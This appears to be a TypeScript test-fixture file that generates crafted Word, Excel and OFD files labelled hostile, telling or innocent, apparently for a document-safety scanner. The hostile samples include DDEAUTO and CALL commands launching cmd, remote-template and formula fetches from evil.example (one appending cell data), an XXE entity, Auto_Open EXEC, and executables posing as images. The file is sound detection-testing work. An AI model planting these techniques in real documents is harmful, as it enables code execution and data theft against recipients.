/** Office files by ISO/IEC 29500 (docx, xlsx) and GB/T 33190 (ofd), as Word, Excel, WPS and LibreOffice write them. */
import { strToU8, zipSync } from 'fflate';
import { type CraftedSet, maker } from './kinds.ts';
import { photoWith, exif, gps } from './pictures.ts';

const docx = maker('docx');
const xlsx = maker('xlsx');
const ofd = maker('ofd');
type Parts = Record<string, string | Uint8Array>;

const zipped = (parts: Parts): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [
        name,
        typeof part === 'string' ? strToU8(part) : part,
      ]),
    ),
  );

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const VND = 'application/vnd.openxmlformats-officedocument';
/** Relationships: type (its last word, or the whole), target, and the mode. */
const rels = (...list: readonly (readonly [string, string, string?])[]): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PACKAGE}/relationships">${list
    .map(
      ([type, target, mode], index) =>
        `<Relationship Id="rId${String(index + 1)}" Type="${type.includes(':') ? type : `${REL}/${type}`}" Target="${target}"${mode === undefined ? '' : ` TargetMode="${mode}"`}/>`,
    )
    .join('')}</Relationships>`;
const types = (overrides: Record<string, string>, defaults: Record<string, string> = {}): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="${PACKAGE}/content-types">${Object.entries(
    {
      rels: 'application/vnd.openxmlformats-package.relationships+xml',
      xml: 'application/xml',
      ...defaults,
    },
  )
    .map(([ending, type]) => `<Default Extension="${ending}" ContentType="${type}"/>`)
    .join('')}${Object.entries(overrides)
    .map(([part, type]) => `<Override PartName="/${part}" ContentType="${type}"/>`)
    .join('')}</Types>`;

interface Pack {
  /** Inside the body or the sheet. */
  inside?: string;
  relations?: readonly (readonly [string, string, string?])[];
  /** Parts beside, with their types. */
  more?: Parts;
  overrides?: Record<string, string>;
  defaults?: Record<string, string>;
  /** Relationships of the whole file. */
  root?: readonly (readonly [string, string, string?])[];
  main?: string;
}

const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
export const wordOf = ({
  inside = '<w:p><w:r><w:t>整改</w:t></w:r></w:p>',
  relations = [],
  more = {},
  overrides = {},
  defaults = {},
  root = [],
  main = `${VND}.wordprocessingml.document.main+xml`,
}: Pack): Uint8Array =>
  zipped({
    '[Content_Types].xml': types({ 'word/document.xml': main, ...overrides }, defaults),
    '_rels/.rels': rels(['officeDocument', 'word/document.xml'], ...root),
    'word/document.xml': `<w:document ${W}><w:body>${inside}</w:body></w:document>`,
    'word/_rels/document.xml.rels': rels(...relations),
    ...more,
  });

const S = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"`;
export const bookOf = ({
  inside = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>',
  relations = [],
  more = {},
  overrides = {},
  defaults = {},
  root = [],
  main = `${VND}.spreadsheetml.sheet.main+xml`,
}: Pack): Uint8Array =>
  zipped({
    '[Content_Types].xml': types(
      {
        'xl/workbook.xml': main,
        'xl/worksheets/sheet1.xml': `${VND}.spreadsheetml.worksheet+xml`,
        ...overrides,
      },
      defaults,
    ),
    '_rels/.rels': rels(['officeDocument', 'xl/workbook.xml'], ...root),
    'xl/workbook.xml': `<workbook ${S}><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': rels(['worksheet', 'worksheets/sheet1.xml'], ...relations),
    'xl/worksheets/sheet1.xml': `<worksheet ${S}>${inside}</worksheet>`,
    ...more,
  });

const instruction = (...parts: string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${parts
    .map((part) => `<w:r><w:instrText xml:space="preserve">${part}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const simple = (text: string): string =>
  `<w:p><w:fldSimple w:instr="${text}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
const formula = (text: string): string =>
  `<sheetData><row r="1"><c r="A1"><f>${text}</f><v>1</v></c></row></sheetData>`;

const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const ole = Buffer.concat([OLE, Buffer.alloc(1024)]);
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const link = (target: string): Uint8Array =>
  wordOf({
    inside: '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',
    relations: [['hyperlink', target, 'External']],
  });
const header = (inside: string): Pack => ({
  relations: [['header', 'header1.xml']],
  overrides: { 'word/header1.xml': `${VND}.wordprocessingml.header+xml` },
  more: { 'word/header1.xml': `<w:hdr ${W}>${inside}</w:hdr>` },
});
const utf16 = (text: string): Uint8Array => {
  const bytes = Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');
  return bytes;
};

const words: CraftedSet = {
  'Word：宏换了名字': docx('hostile', () =>
    wordOf({
      relations: [['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.dat']],
      overrides: { 'word/a.dat': 'application/vnd.ms-office.vbaProject' },
      more: { 'word/a.dat': ole },
    }),
  ),
  'Word：带宏的文档改名为 docx': docx('hostile', () =>
    wordOf({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ),
  'Word：OLE 对象换了后缀': docx('hostile', () =>
    wordOf({
      relations: [['oleObject', 'embeddings/a.dat']],
      defaults: { dat: 'application/octet-stream' },
      more: { 'word/embeddings/a.dat': ole },
    }),
  ),
  'Word：OLE 对象冒充图片': docx('hostile', () =>
    wordOf({
      relations: [['image', 'media/image1.png']],
      defaults: { png: 'image/png' },
      more: { 'word/media/image1.png': ole },
    }),
  ),
  'Word：程序冒充图片': docx('hostile', () =>
    wordOf({
      relations: [['image', 'media/image1.png']],
      defaults: { png: 'image/png' },
      more: { 'word/media/image1.png': Buffer.from('MZ\u0090\0\u0003\0\0\0\u0004\0', 'latin1') },
    }),
  ),
  'Word：嵌入的整个文件': docx('hostile', () =>
    wordOf({
      relations: [['package', 'embeddings/a.xlsm']],
      defaults: { xlsm: 'application/vnd.ms-excel.sheet.macroEnabled.12' },
      more: {
        'word/embeddings/a.xlsm': bookOf({
          main: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        }),
      },
    }),
  ),
  'Word：共享文件夹里的模板': docx('hostile', () =>
    wordOf({
      relations: [['settings', 'settings.xml']],
      overrides: { 'word/settings.xml': `${VND}.wordprocessingml.settings+xml` },
      more: {
        'word/settings.xml': `<w:settings ${W}><w:attachedTemplate r:id="rId1"/></w:settings>`,
        'word/_rels/settings.xml.rels': rels([
          'attachedTemplate',
          '\\\\evil.example\\share\\a.dotm',
          'External',
        ]),
      },
    }),
  ),
  'Word：图片从网上取': docx('hostile', () =>
    wordOf({ relations: [['image', 'http://evil.example/a.png', 'External']] }),
  ),
  'Word：图片从网上取，关系文件是 UTF-16': docx('hostile', () =>
    wordOf({
      more: {
        'word/_rels/document.xml.rels': utf16(
          rels(['image', 'http://evil.example/a.png', 'External']),
        ),
      },
    }),
  ),
  'Word：链接的子文档': docx('hostile', () =>
    wordOf({ relations: [['subDocument', 'http://evil.example/a.docx', 'External']] }),
  ),
  'Word：链接的 OLE 对象': docx('hostile', () =>
    wordOf({ relations: [['oleObject', 'file:///\\\\evil.example\\a.xlsx', 'External']] }),
  ),
  'Word：不认识的关系指向网上': docx('hostile', () =>
    wordOf({ relations: [['urn:x:vendor/fetch', 'http://evil.example/', 'External']] }),
  ),
  'Word：插入的网页（altChunk）': docx('hostile', () =>
    wordOf({
      inside: '<w:altChunk r:id="rId1"/>',
      relations: [['aFChunk', 'a.html']],
      defaults: { html: 'text/html' },
      more: { 'word/a.html': '<script>alert(1)</script>' },
    }),
  ),
  'Word：DDEAUTO': docx('hostile', () =>
    wordOf({ inside: simple('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;') }),
  ),
  'Word：DDEAUTO 拆成几段': docx('hostile', () =>
    wordOf({ inside: instruction('D', 'DE', 'AUTO cmd /k calc') }),
  ),
  'Word：DDE 的字母写成编号': docx('hostile', () =>
    wordOf({ inside: instruction(' &#68;&#x44;E cmd ') }),
  ),
  'Word：页眉里的 INCLUDETEXT': docx('hostile', () =>
    wordOf(header(instruction(' INCLUDETEXT "http://evil.example/a.docx" '))),
  ),
  'Word：页眉里的 INCLUDEPICTURE': docx('hostile', () =>
    wordOf(header(simple('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d'))),
  ),
  'Word：QUOTE 拼出来的 DDE': docx('hostile', () =>
    wordOf({
      inside: instruction('', ' QUOTE 68 68 69 65 85 84 79 ', ' "cmd" "/k calc" '),
    }),
  ),
  'Word：IMPORT、LINK、DATABASE': docx('hostile', () =>
    wordOf({ inside: instruction(' LINK Excel.Sheet.12 "c:\\\\a.xlsx" ') }),
  ),
  'Word：链接到本机程序': docx('hostile', () => link('file:///c:/windows/system32/cmd.exe')),
  'Word：链接到共享文件夹': docx('hostile', () => link('\\\\evil.example\\share\\a.exe')),
  'Word：链接写 javascript': docx('hostile', () => link('javascript:alert(1)')),
  'Word：链接用 ms-word 打开': docx('hostile', () =>
    link('ms-word:ofe|u|http://evil.example/a.docm'),
  ),
  'Word：ActiveX 控件': docx('hostile', () =>
    wordOf({
      relations: [['control', 'c/a.xml']],
      overrides: { 'word/c/a.xml': 'application/vnd.ms-office.activeX+xml' },
      more: { 'word/c/a.xml': '<ax:ocx xmlns:ax="x"/>' },
    }),
  ),
  'Word：自定义界面': docx('hostile', () =>
    wordOf({
      root: [
        [
          'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
          'customUI/a.xml',
        ],
      ],
      more: { 'customUI/a.xml': '<customUI onLoad="x"/>' },
    }),
  ),
  'Word：网页加载项': docx('hostile', () =>
    wordOf({
      root: [
        [
          'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
          'word/webextensions/taskpanes.xml',
        ],
      ],
      overrides: {
        'word/webextensions/taskpanes.xml': 'application/vnd.ms-office.webextensiontaskpanes+xml',
      },
      more: { 'word/webextensions/taskpanes.xml': '<wetp:taskpanes xmlns:wetp="x"/>' },
    }),
  ),
  'Word：没有关系指到的程序': docx('hostile', () =>
    wordOf({ more: { 'word/a.exe': Buffer.from('MZ\u0090\0\u0003\0', 'latin1') } }),
  ),
  'Word：实体定义': docx('hostile', () =>
    wordOf({
      more: {
        'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/">]><w:document ${W}>&x;</w:document>`,
      },
    }),
  ),
  'Word：VML 图形的图从网上取': docx('hostile', () =>
    wordOf({
      inside:
        '<w:p><w:r><w:pict><v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
    }),
  ),
  'Word：照片里的拍摄地点': docx('telling', () =>
    wordOf({
      relations: [['image', 'media/image1.jpg']],
      defaults: { jpg: 'image/jpeg' },
      more: { 'word/media/image1.jpg': photoWith(exif(gps)) },
    }),
  ),
  'Word：作者的姓名': docx('telling', () =>
    wordOf({
      root: [[`${PACKAGE}/relationships/metadata/core-properties`, 'docProps/core.xml']],
      overrides: {
        'docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
      },
      more: {
        'docProps/core.xml':
          '<cp:coreProperties xmlns:cp="cp" xmlns:dc="dc"><dc:creator>张三</dc:creator><cp:lastModifiedBy>李四</cp:lastModifiedBy></cp:coreProperties>',
      },
    }),
  ),
  'Word：一段文字': docx('innocent', () => wordOf({})),
  'Word：网页和邮箱链接': docx('innocent', () =>
    wordOf({
      relations: [
        ['hyperlink', 'https://www.example.gov.cn/', 'External'],
        ['hyperlink', 'mailto:a@example.gov.cn', 'External'],
        ['hyperlink', 'http://www.example.gov.cn/frame', 'External'],
      ],
    }),
  ),
  'Word：目录、页码、交叉引用、邮件合并的域': docx('innocent', () =>
    wordOf({
      inside: [
        instruction(' TOC \\o "1-3" \\h \\z \\u '),
        instruction(' PAGE ', ' \\* MERGEFORMAT '),
        simple(' NUMPAGES '),
        instruction(' REF _Ref1 \\h '),
        instruction(' HYPERLINK \\l "a" '),
        instruction(' SEQ 图 \\* ARABIC '),
        instruction(' = SUM(ABOVE) '),
        instruction(' FORMTEXT '),
        instruction(' DATE \\@ "yyyy年M月d日" '),
      ].join(''),
    }),
  ),
  'Word：正文里写着 DDEAUTO': docx('innocent', () =>
    wordOf({ inside: '<w:p><w:r><w:t>检查发现有人用 DDEAUTO 和 INCLUDEPICTURE</w:t></w:r></w:p>' }),
  ),
  'Word：WPS 存的，带产品版本和自定义数据': docx('innocent', () =>
    wordOf({
      root: [
        [`${PACKAGE}/relationships/metadata/core-properties`, 'docProps/core.xml'],
        ['extended-properties', 'docProps/app.xml'],
        ['custom-properties', 'docProps/custom.xml'],
      ],
      relations: [
        ['styles', 'styles.xml'],
        ['theme', 'theme/theme1.xml'],
        ['fontTable', 'fontTable.xml'],
        ['settings', 'settings.xml'],
        ['customXml', '../customXml/item1.xml'],
      ],
      overrides: {
        'docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
        'docProps/app.xml': `${VND}.extended-properties+xml`,
        'docProps/custom.xml': `${VND}.custom-properties+xml`,
        'word/styles.xml': `${VND}.wordprocessingml.styles+xml`,
        'word/theme/theme1.xml': `${VND}.theme+xml`,
        'word/fontTable.xml': `${VND}.wordprocessingml.fontTable+xml`,
        'word/settings.xml': `${VND}.wordprocessingml.settings+xml`,
        'customXml/itemProps1.xml': `${VND}.customXmlProperties+xml`,
      },
      more: {
        'docProps/core.xml': '<cp:coreProperties xmlns:cp="cp"/>',
        'docProps/app.xml': '<Properties><Application>WPS Office_12.1.0</Application></Properties>',
        'docProps/custom.xml':
          '<Properties><property name="KSOProductBuildVer"><vt:lpwstr xmlns:vt="vt">2052-12.1.0.16929</vt:lpwstr></property></Properties>',
        'word/styles.xml': `<w:styles ${W}/>`,
        'word/theme/theme1.xml': '<a:theme xmlns:a="a"/>',
        'word/fontTable.xml': `<w:fonts ${W}/>`,
        'word/settings.xml': `<w:settings ${W}/>`,
        'customXml/item1.xml':
          '<s:customData xmlns:s="http://www.wps.cn/officeDocument/2013/wpsCustomData"/>',
        'customXml/itemProps1.xml': '<ds:datastoreItem xmlns:ds="ds"/>',
        'customXml/_rels/item1.xml.rels': rels(['customXmlProps', 'itemProps1.xml']),
      },
    }),
  ),
  'Word：批注、脚注、页眉页脚、图片、嵌入字体': docx('innocent', () =>
    wordOf({
      relations: [
        ['comments', 'comments.xml'],
        [
          'http://schemas.microsoft.com/office/2011/relationships/commentsExtended',
          'commentsExtended.xml',
        ],
        ['http://schemas.microsoft.com/office/2011/relationships/people', 'people.xml'],
        ['footnotes', 'footnotes.xml'],
        ['footer', 'footer1.xml'],
        ['image', 'media/image1.png'],
        ['fontTable', 'fontTable.xml'],
      ],
      defaults: { png: 'image/png', odttf: `${VND}.obfuscatedFont` },
      overrides: {
        'word/comments.xml': `${VND}.wordprocessingml.comments+xml`,
        'word/commentsExtended.xml': `${VND}.wordprocessingml.commentsExtended+xml`,
        'word/people.xml': `${VND}.wordprocessingml.people+xml`,
        'word/footnotes.xml': `${VND}.wordprocessingml.footnotes+xml`,
        'word/footer1.xml': `${VND}.wordprocessingml.footer+xml`,
        'word/fontTable.xml': `${VND}.wordprocessingml.fontTable+xml`,
      },
      more: {
        'word/comments.xml': `<w:comments ${W}/>`,
        'word/commentsExtended.xml': '<w15:commentsEx xmlns:w15="w15"/>',
        'word/people.xml': '<w15:people xmlns:w15="w15"/>',
        'word/footnotes.xml': `<w:footnotes ${W}/>`,
        'word/footer1.xml': `<w:ftr ${W}>${instruction(' PAGE ')}</w:ftr>`,
        'word/media/image1.png': png,
        'word/fontTable.xml': `<w:fonts ${W}/>`,
        'word/_rels/fontTable.xml.rels': rels(['font', 'fonts/font1.odttf']),
        'word/fonts/font1.odttf': Buffer.from('font'),
      },
    }),
  ),
  'Word：图表，数据在内嵌的工作簿里': docx('innocent', () =>
    wordOf({
      relations: [['chart', 'charts/chart1.xml']],
      defaults: { xlsx: `${VND}.spreadsheetml.sheet` },
      overrides: { 'word/charts/chart1.xml': `${VND}.drawingml.chart+xml` },
      more: {
        'word/charts/chart1.xml': '<c:chartSpace xmlns:c="c"/>',
        'word/charts/_rels/chart1.xml.rels': rels(['package', '../embeddings/a.xlsx']),
        'word/embeddings/a.xlsx': bookOf({}),
      },
    }),
  ),
  'Word：LibreOffice 存的，关系用绝对路径': docx('innocent', () =>
    zipped({
      '[Content_Types].xml': types(
        {
          '_rels/.rels': 'application/vnd.openxmlformats-package.relationships+xml',
          'word/_rels/document.xml.rels':
            'application/vnd.openxmlformats-package.relationships+xml',
          'word/document.xml': `${VND}.wordprocessingml.document.main+xml`,
          'word/styles.xml': `${VND}.wordprocessingml.styles+xml`,
        },
        { png: 'image/png', jpeg: 'image/jpeg' },
      ),
      '_rels/.rels': rels(['officeDocument', '/word/document.xml']),
      'word/document.xml': `<w:document ${W}><w:body/></w:document>`,
      'word/_rels/document.xml.rels': rels(['styles', '/word/styles.xml']),
      'word/styles.xml': `<w:styles ${W}/>`,
    }),
  ),
  'Word：严格格式（Strict）': docx('innocent', () =>
    zipped({
      '[Content_Types].xml': types({
        'word/document.xml': `${VND}.wordprocessingml.document.main+xml`,
      }),
      '_rels/.rels': rels([
        'http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument',
        'word/document.xml',
      ]),
      'word/document.xml':
        '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body/></w:document>',
    }),
  ),
};

const BUILTIN = `${VND}.spreadsheetml`;
const books: CraftedSet = {
  'Excel：Excel 4 宏表': xlsx('hostile', () =>
    bookOf({
      relations: [
        [
          'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
          'macrosheets/sheet1.xml',
        ],
      ],
      overrides: { 'xl/macrosheets/sheet1.xml': 'application/vnd.ms-excel.macrosheet+xml' },
      more: { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet xmlns:xm="xm"/>' },
    }),
  ),
  'Excel：Excel 4 宏表放在工作表的位置': xlsx('hostile', () =>
    bookOf({
      relations: [['worksheet', 'worksheets/sheet2.xml']],
      overrides: { 'xl/worksheets/sheet2.xml': 'application/vnd.ms-excel.intlmacrosheet+xml' },
      more: { 'xl/worksheets/sheet2.xml': '<xm:macrosheet xmlns:xm="xm"/>' },
    }),
  ),
  'Excel：宏表冒充普通工作表': xlsx('hostile', () =>
    bookOf({
      relations: [['worksheet', 'worksheets/sheet2.xml']],
      overrides: { 'xl/worksheets/sheet2.xml': `${BUILTIN}.worksheet+xml` },
      more: { 'xl/worksheets/sheet2.xml': '<xm:macrosheet xmlns:xm="xm"/>' },
    }),
  ),
  'Excel：数据连接': xlsx('hostile', () =>
    bookOf({
      relations: [['connections', 'connections.xml']],
      overrides: { 'xl/connections.xml': `${BUILTIN}.connections+xml` },
      more: {
        'xl/connections.xml': `<connections ${S}><connection id="1" type="4"><webPr url="http://evil.example/"/></connection></connections>`,
      },
    }),
  ),
  'Excel：网页查询': xlsx('hostile', () =>
    bookOf({
      overrides: { 'xl/queryTables/queryTable1.xml': `${BUILTIN}.queryTable+xml` },
      more: {
        'xl/worksheets/_rels/sheet1.xml.rels': rels([
          'queryTable',
          '../queryTables/queryTable1.xml',
        ]),
        'xl/queryTables/queryTable1.xml': `<queryTable ${S}/>`,
      },
    }),
  ),
  'Excel：DDE 链接': xlsx('hostile', () =>
    bookOf({
      relations: [['externalLink', 'externalLinks/externalLink1.xml']],
      overrides: { 'xl/externalLinks/externalLink1.xml': `${BUILTIN}.externalLink+xml` },
      more: {
        'xl/externalLinks/externalLink1.xml': `<externalLink ${S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      },
    }),
  ),
  'Excel：引用别的工作簿': xlsx('hostile', () =>
    bookOf({
      relations: [['externalLink', 'externalLinks/externalLink1.xml']],
      overrides: { 'xl/externalLinks/externalLink1.xml': `${BUILTIN}.externalLink+xml` },
      more: {
        'xl/externalLinks/externalLink1.xml': `<externalLink ${S}><externalBook r:id="rId1"/></externalLink>`,
        'xl/externalLinks/_rels/externalLink1.xml.rels': rels([
          'externalLinkPath',
          '\\\\evil.example\\a.xlsx',
          'External',
        ]),
      },
    }),
  ),
  'Excel：公式里 WEBSERVICE': xlsx('hostile', () =>
    bookOf({ inside: formula('_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)') }),
  ),
  'Excel：公式里 IMAGE': xlsx('hostile', () =>
    bookOf({ inside: formula('_xlfn.IMAGE("http://evil.example/a.png")') }),
  ),
  'Excel：公式里 CALL': xlsx('hostile', () =>
    bookOf({ inside: formula('CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","cmd")') }),
  ),
  'Excel：公式里 RTD': xlsx('hostile', () =>
    bookOf({ inside: formula('RTD("evil.server",,"x")') }),
  ),
  'Excel：名称里的宏函数': xlsx('hostile', () =>
    bookOf({
      more: {
        'xl/workbook.xml': `<workbook ${S}><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">EXEC("calc")</definedName></definedNames></workbook>`,
      },
    }),
  ),
  'Excel：DDE 写成公式': xlsx('hostile', () => bookOf({ inside: formula("cmd|'/c calc'!A0") })),
  'Excel：二进制工作簿改名': xlsx('hostile', () =>
    zipped({
      '[Content_Types].xml': types(
        {},
        { bin: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main' },
      ),
      '_rels/.rels': rels(['officeDocument', 'xl/workbook.bin']),
      'xl/workbook.bin': Buffer.alloc(10),
      'xl/workbook.xml': '<workbook/>',
    }),
  ),
  'Excel：一张表': xlsx('innocent', () => bookOf({})),
  'Excel：WPS 存的，单元格图片': xlsx('innocent', () =>
    bookOf({
      relations: [
        ['http://www.wps.cn/officeDocument/2020/cellImage', 'cellimages.xml'],
        ['sharedStrings', 'sharedStrings.xml'],
      ],
      defaults: { png: 'image/png', jpeg: 'image/jpeg' },
      overrides: {
        'xl/cellimages.xml': 'application/vnd.wps-officedocument.cellimage+xml',
        'xl/sharedStrings.xml': `${BUILTIN}.sharedStrings+xml`,
      },
      more: {
        'xl/cellimages.xml':
          '<etc:cellImages xmlns:etc="http://www.wps.cn/officeDocument/2017/etCustomData"/>',
        'xl/_rels/cellimages.xml.rels': rels(['image', 'media/image1.png']),
        'xl/media/image1.png': png,
        'xl/sharedStrings.xml': `<sst ${S}/>`,
      },
    }),
  ),
  'Excel：批注、打印设置、绘图、图表、透视表、计算链': xlsx('innocent', () =>
    bookOf({
      relations: [
        ['calcChain', 'calcChain.xml'],
        ['styles', 'styles.xml'],
        ['pivotCacheDefinition', 'pivotCache/pivotCacheDefinition1.xml'],
      ],
      defaults: {
        vml: `${VND}.vmlDrawing`,
        bin: `${BUILTIN}.printerSettings`,
        emf: 'image/x-emf',
      },
      overrides: {
        'xl/calcChain.xml': `${BUILTIN}.calcChain+xml`,
        'xl/styles.xml': `${BUILTIN}.styles+xml`,
        'xl/comments1.xml': `${BUILTIN}.comments+xml`,
        'xl/drawings/drawing1.xml': `${VND}.drawing+xml`,
        'xl/charts/chart1.xml': `${VND}.drawingml.chart+xml`,
        'xl/charts/style1.xml': 'application/vnd.ms-office.chartstyle+xml',
        'xl/charts/colors1.xml': 'application/vnd.ms-office.chartcolorstyle+xml',
        'xl/tables/table1.xml': `${BUILTIN}.table+xml`,
        'xl/pivotTables/pivotTable1.xml': `${BUILTIN}.pivotTable+xml`,
        'xl/pivotCache/pivotCacheDefinition1.xml': `${BUILTIN}.pivotCacheDefinition+xml`,
        'xl/pivotCache/pivotCacheRecords1.xml': `${BUILTIN}.pivotCacheRecords+xml`,
      },
      more: {
        'xl/calcChain.xml': `<calcChain ${S}/>`,
        'xl/styles.xml': `<styleSheet ${S}/>`,
        'xl/worksheets/_rels/sheet1.xml.rels': rels(
          ['comments', '../comments1.xml'],
          ['vmlDrawing', '../drawings/vmlDrawing1.vml'],
          ['printerSettings', '../printerSettings/printerSettings1.bin'],
          ['drawing', '../drawings/drawing1.xml'],
          ['table', '../tables/table1.xml'],
          ['pivotTable', '../pivotTables/pivotTable1.xml'],
        ),
        'xl/comments1.xml': `<comments ${S}/>`,
        'xl/drawings/vmlDrawing1.vml': '<xml xmlns:v="v"><v:shape><br></v:shape></xml>',
        'xl/printerSettings/printerSettings1.bin': Buffer.from('HP LaserJet', 'utf16le'),
        'xl/drawings/drawing1.xml': '<xdr:wsDr xmlns:xdr="xdr"/>',
        'xl/drawings/_rels/drawing1.xml.rels': rels(['chart', '../charts/chart1.xml']),
        'xl/charts/chart1.xml': '<c:chartSpace xmlns:c="c"/>',
        'xl/charts/_rels/chart1.xml.rels': rels(
          ['http://schemas.microsoft.com/office/2011/relationships/chartStyle', 'style1.xml'],
          ['http://schemas.microsoft.com/office/2011/relationships/chartColorStyle', 'colors1.xml'],
        ),
        'xl/charts/style1.xml': '<cs:chartStyle xmlns:cs="cs"/>',
        'xl/charts/colors1.xml': '<cs:colorStyle xmlns:cs="cs"/>',
        'xl/tables/table1.xml': `<table ${S}/>`,
        'xl/pivotTables/pivotTable1.xml': `<pivotTableDefinition ${S}/>`,
        'xl/pivotTables/_rels/pivotTable1.xml.rels': rels([
          'pivotCacheDefinition',
          '../pivotCache/pivotCacheDefinition1.xml',
        ]),
        'xl/pivotCache/pivotCacheDefinition1.xml': `<pivotCacheDefinition ${S}/>`,
        'xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels': rels([
          'pivotCacheRecords',
          'pivotCacheRecords1.xml',
        ]),
        'xl/pivotCache/pivotCacheRecords1.xml': `<pivotCacheRecords ${S}/>`,
      },
    }),
  ),
  'Excel：常见公式': xlsx('innocent', () =>
    bookOf({
      inside: formula(
        'IFERROR(VLOOKUP(A2,Sheet2!$A:$C,2,0),&quot;call (1)|无&quot;)+SUM(B1:B9)&amp;HYPERLINK(&quot;https://a.cn&quot;)',
      ),
    }),
  ),
  'Excel：图像在工作表背景里': xlsx('innocent', () =>
    bookOf({
      defaults: { png: 'image/png' },
      more: {
        'xl/worksheets/_rels/sheet1.xml.rels': rels(['image', '../media/image1.png']),
        'xl/media/image1.png': png,
      },
    }),
  ),
};

const OFD = 'xmlns:ofd="http://www.ofdspec.org/2016"';
export const ofdOf = (more: Parts = {}, inDocument = '', inBody = ''): Uint8Array =>
  zipped({
    'OFD.xml': `<ofd:OFD ${OFD} Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocInfo><ofd:DocID>0</ofd:DocID></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>${inBody}</ofd:DocBody></ofd:OFD>`,
    'Doc_0/Document.xml': `<ofd:Document ${OFD}><ofd:CommonData><ofd:PageArea/></ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages>${inDocument}</ofd:Document>`,
    'Doc_0/Pages/Page_0/Content.xml': `<ofd:Page ${OFD}><ofd:Content/></ofd:Page>`,
    ...more,
  });
const action = (inside: string): string =>
  `<ofd:Actions><ofd:Action Event="DO">${inside}</ofd:Action></ofd:Actions>`;
const ofds: CraftedSet = {
  'OFD：附件': ofd('hostile', () =>
    ofdOf(
      {
        'Doc_0/Attachs/Attachments.xml': `<ofd:Attachments ${OFD}><ofd:Attachment ID="1" Name="a" Format="exe"><ofd:FileLoc>a.exe</ofd:FileLoc></ofd:Attachment></ofd:Attachments>`,
        'Doc_0/Attachs/a.exe': 'MZ',
      },
      '<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>',
    ),
  ),
  'OFD：脚本': ofd('hostile', () =>
    ofdOf(
      { 'Doc_0/Script.js': 'app.alert(1)' },
      action('<ofd:JavaScript>Script.js</ofd:JavaScript>'),
    ),
  ),
  'OFD：打开附件的动作': ofd('hostile', () => ofdOf({}, action('<ofd:GotoA AttachID="1"/>'))),
  'OFD：链接到共享文件夹': ofd('hostile', () =>
    ofdOf({}, action('<ofd:URI URI="file://evil.example/a.exe"/>')),
  ),
  'OFD：影片': ofd('hostile', () => ofdOf({}, action('<ofd:Movie ResourceID="1"/>'))),
  'OFD：没有引用的程序': ofd('hostile', () =>
    ofdOf({ 'Doc_0/Res/a.dat': Buffer.from('MZ\u0090\0\u0003\0', 'latin1') }),
  ),
  'OFD：冒充图片的网页': ofd('hostile', () =>
    ofdOf({ 'Doc_0/Res/image.png': '<script>alert(1)</script>' }),
  ),
  'OFD：加密的包': ofd('hostile', () =>
    ofdOf({ 'Encryptions.xml': '<ofd:Encryptions/>', 'Doc_0/a.dat': Buffer.alloc(40, 7) }),
  ),
  'OFD：照片里的拍摄地点': ofd('telling', () =>
    ofdOf({ 'Doc_0/Res/image.jpg': photoWith(exif(gps)) }),
  ),
  'OFD：一页': ofd('innocent', () => ofdOf()),
  'OFD：字体、图片、电子签章、批注、自定义标签': ofd('innocent', () =>
    ofdOf(
      {
        'Doc_0/DocumentRes.xml': `<ofd:Res ${OFD} BaseLoc="Res"/>`,
        'Doc_0/PublicRes.xml': `<ofd:Res ${OFD} BaseLoc="Res"/>`,
